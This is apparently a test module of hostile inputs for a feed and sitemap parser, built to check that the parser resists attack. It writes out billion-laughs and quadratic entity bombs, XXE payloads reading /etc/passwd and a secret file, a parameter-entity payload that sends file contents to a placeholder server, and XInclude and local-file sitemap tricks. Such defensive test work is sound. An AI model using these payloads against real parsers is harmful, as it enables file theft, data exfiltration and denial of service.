"""Feeds and sitemaps that are broken, endless, or reach for what lies outside them."""

from __future__ import annotations

from tests.hostile.case import FIRST, LAST, PARAGRAPHS, Case

WHOLE = (FIRST, LAST)
_BODY = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
_ITEM = (
    "<item><title>Ferry terminal opens</title><link>http://velm.example/a</link><guid>a</guid>"
    f"<description><![CDATA[{_BODY}]]></description></item>"
)


def _rss(inside: str = "", prolog: str = "", items: str = _ITEM) -> bytes:
    channel = f"<channel><title>Velm Courier</title>{inside}{items}</channel>"
    return f'<?xml version="1.0"?>{prolog}<rss version="2.0">{channel}</rss>'.encode()


def _web() -> bytes:
    return f"<html><body>{_BODY}</body></html>".encode()


def _laughs(levels: int = 10, width: int = 10) -> bytes:
    lines = ['<!ENTITY l0 "ha ">', *(f'<!ENTITY l{i} "{f"&l{i - 1};" * width}">' for i in range(1, levels))]
    return _rss(f"<item><description>&l{levels - 1};</description></item>", f"<!DOCTYPE rss [{''.join(lines)}]>")


def _quadratic() -> bytes:
    return _rss(
        f"<item><description>{'&a;' * 50_000}</description></item>", f'<!DOCTYPE rss [<!ENTITY a "{"ha " * 20_000}">]>'
    )


def _external(system: str) -> bytes:
    item = _ITEM.replace("Ferry terminal", "&x;").replace("<![CDATA[", "&x;<![CDATA[")
    return _rss(prolog=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{system}">]>', items=item)


def _parameter() -> bytes:
    prolog = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "file://@SECRET@"><!ENTITY % q "<!ENTITY x SYSTEM \'http://@SERVER@/?%p;\'>">%q;%p;]>'
    return _rss(prolog=prolog)


ENTITIES = (
    Case("billion-laughs", "f.xml", _laughs, "article|unreadable|bomb|empty|no-article|truncated", several=True),
    Case("billion-laughs-in-a-page", "f.html", _laughs, "article|no-article|unreadable|bomb|empty", several=True),
    Case("quadratic-blowup", "f.xml", _quadratic, "article|unreadable|bomb|empty|no-article|truncated", several=True),
    Case(
        "entity-that-names-itself",
        "f.xml",
        lambda: _rss("&a;", '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
        "article|unreadable",
        several=True,
    ),
    Case(
        "external-entity-of-a-file",
        "f.xml",
        lambda: _external("file://@SECRET@"),
        "article|unreadable",
        several=True,
        lacks=("root:x:",),
    ),
    Case(
        "external-entity-of-passwd",
        "f.rss",
        lambda: _external("/etc/passwd"),
        "article|unreadable",
        several=True,
        lacks=("root:x:",),
    ),
    Case(
        "external-entity-over-http",
        "f.atom",
        lambda: _external("http://@SERVER@/x"),
        "article|unreadable",
        several=True,
    ),
    Case("parameter-entities", "f.xml", _parameter, "article|unreadable", several=True),
    Case(
        "doctype-over-http",
        "f.xml",
        lambda: _rss(prolog='<!DOCTYPE rss SYSTEM "http://@SERVER@/rss.dtd">'),
        articles=1,
        keeps=WHOLE,
    ),
    Case(
        "xinclude",
        "f.xml",
        lambda: _rss('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@SECRET@" parse="text"/>'),
        articles=1,
        keeps=WHOLE,
    ),
    Case(
        "style-sheet-instruction",
        "f.xml",
        lambda: _rss(prolog='<?xml-stylesheet type="text/xsl" href="file://@SECRET@"?>'),
        articles=1,
        keeps=WHOLE,
    ),
    Case(
        "undefined-entities",
        "f.xml",
        lambda: _rss(items=_ITEM.replace("Ferry", "Ferry &nbsp;&eacute;&velm;")),
        articles=1,
        keeps=WHOLE,
    ),
)

BROKEN = (
    Case(
        "feed-that-breaks-off",
        "f.xml",
        lambda: _rss(items=_ITEM * 3)[:-900],
        "article|unreadable|truncated",
        several=True,
        keeps=WHOLE,
    ),
    Case("feed-cut-in-the-head", "f.xml", lambda: _rss()[:60], "unreadable|empty|truncated|unsupported"),
    Case(
        "feed-with-an-ampersand",
        "f.xml",
        lambda: _rss("<copyright>Torvik & Sons <3</copyright>"),
        articles=1,
        keeps=WHOLE,
    ),
    Case("feed-with-crossed-tags", "f.xml", lambda: _rss("<a><b></a></b>"), articles=1, keeps=WHOLE),
    Case(
        "feed-with-controls",
        "f.xml",
        lambda: _rss(items=_ITEM.replace("Ferry", "Fer\x0b\x1bry", 1)),
        articles=1,
        keeps=WHOLE,
    ),
    Case(
        "feed-with-nul",
        "f.xml",
        lambda: _rss(items=_ITEM.replace("Ferry", "Fer\0ry", 1)),
        "article|binary|unreadable",
        several=True,
    ),
    Case(
        "feed-says-utf16-is-utf8",
        "f.xml",
        lambda: _rss().replace(b'version="1.0"?', b'version="1.0" encoding="utf-16"?'),
        "article|unreadable|encoding",
        several=True,
    ),
    Case(
        "feed-says-an-unknown-encoding",
        "f.xml",
        lambda: _rss().replace(b'version="1.0"?', b'version="1.0" encoding="velmark-7"?'),
        "article|unreadable|encoding",
        several=True,
    ),
    Case(
        "feed-in-windows-1252-unsaid",
        "f.xml",
        lambda: _rss(items=_ITEM.replace("Ferry", "Café")).decode().encode("cp1252"),
        articles=1,
    ),
    Case("feed-without-items", "f.xml", lambda: _rss(items=""), "empty|left-out"),
    Case("feed-of-an-empty-item", "f.xml", lambda: _rss(items="<item/>"), "empty|no-article|left-out"),
    Case(
        "feed-of-links-alone",
        "f.xml",
        lambda: _rss(items="<item><link>http://@SERVER@/a</link></item>" * 5),
        "empty|left-out|no-article|network",
        articles=0,
        problems=None,
    ),
    Case(
        "feed-is-another-format",
        "f.xml",
        lambda: b'<?xml version="1.0"?><project><item>x</item></project>',
        "unsupported|empty",
    ),
    Case(
        "feed-is-html",
        "f.xml",
        _web,
        "article|unsupported",
        several=True,
    ),
    Case("feed-is-text", "f.xml", lambda: "\n".join(PARAGRAPHS).encode(), "unsupported|unreadable|article"),
    Case("feed-of-white-space", "f.xml", lambda: b" \n" * 1000, "empty"),
    Case("feed-after-white-space", "f.xml", lambda: b"\n\n  " + _rss(), articles=1, keeps=WHOLE),
)

LARGE = (
    Case(
        "feed-nested-100000",
        "f.xml",
        lambda: _rss("<a>" * 100_000 + "</a>" * 100_000),
        "article|empty|unreadable|too-large",
        several=True,
        told="unreadable|too-large",
        seconds=10,
    ),
    Case(
        "feed-items-in-items",
        "f.xml",
        lambda: _rss(items="<item>" * 200 + _ITEM + "</item>" * 200),
        "article|empty|no-article|unreadable|left-out",
        several=True,
        seconds=15,
    ),
    Case(
        "feed-items-nested-5000",
        "f.xml",
        lambda: _rss(items="<item>" * 5000 + _ITEM + "</item>" * 5000),
        "article|empty|no-article|unreadable|left-out",
        several=True,
        seconds=30,
        heavy=True,
    ),
    Case(
        "feed-with-20000-empty-items",
        "f.xml",
        lambda: _rss(items="<item/>" * 20_000),
        "empty|left-out|no-article",
        articles=0,
        problems=None,
        seconds=20,
    ),
    Case(
        "feed-with-a-description-of-12-mb",
        "f.xml",
        lambda: _rss(items=_ITEM + f"<item><description>{'Ferry opens. ' * 1_000_000}</description></item>"),
        "article|too-large|unreadable",
        several=True,
        seconds=20,
    ),
    Case(
        "feed-with-attributes-100000",
        "f.xml",
        lambda: _rss("<a " + " ".join(f"a{i}='1'" for i in range(100_000)) + "/>"),
        "article|unreadable",
        several=True,
        seconds=15,
    ),
    Case(
        "feed-with-namespaces-20000",
        "f.xml",
        lambda: _rss("".join(f'<a{i}:x xmlns:a{i}="u:{i}"/>' for i in range(20_000))),
        articles=1,
        keeps=WHOLE,
        seconds=10,
    ),
    Case(
        "feed-guid-of-1-mb",
        "f.xml",
        lambda: _rss(items=_ITEM.replace(">a</guid>", f">{'a' * 1_000_000}</guid>")),
        articles=1,
        keeps=WHOLE,
    ),
    Case(
        "feed-guid-with-escapes",
        "f.xml",
        lambda: _rss(items=_ITEM.replace(">a</guid>", ">a&#x9b;31m&#13;&#10;&#x202e;</guid>")),
        articles=1,
        keeps=WHOLE,
    ),
    Case("feed-items-of-one-name", "f.xml", lambda: _rss(items=_ITEM * 50), articles=50, problems=0),
    Case(
        "feed-with-odd-dates",
        "f.xml",
        lambda: _rss(
            items="".join(
                _ITEM.replace("<guid>a", f"<pubDate>{date}</pubDate><guid>{i}")
                for i, date in enumerate(
                    ("Thu, 31 Feb 2016 25:61:61 +9999", "0", "2016/6/29 15:07:41", "Mon, 99999", "")
                )
            )
        ),
        articles=5,
        problems=0,
    ),
    Case(
        "json-feed-that-is-odd",
        "f.json",
        lambda: b'{"version":"https://jsonfeed.org/version/1.1","items":[null,7,{"id":1},{"id":{},"content_html":[]}]}',
        "empty|left-out|table|unsupported|no-article",
        articles=0,
        problems=None,
    ),
    Case(
        "json-feed-without-items",
        "f.json",
        lambda: b'{"version":"https://jsonfeed.org/version/1.1","items":"none"}',
        "empty|table|unsupported|left-out",
    ),
    Case(
        "sitemap-that-names-itself",
        "sitemap.xml",
        lambda: (
            b'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>http://@SERVER@/sitemap.xml</loc></sitemap></sitemapindex>'
        ),
        "left-out|unsupported|empty|network",
        articles=0,
        problems=None,
    ),
    Case(
        "sitemap-of-local-files",
        "sitemap.xml",
        lambda: (
            b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>file://@SECRET@</loc></url><url><loc>javascript:1</loc></url></urlset>'
        ),
        "left-out|unsupported|empty|network",
        articles=0,
        problems=None,
    ),
)
CASES = (*ENTITIES, *BROKEN, *LARGE)
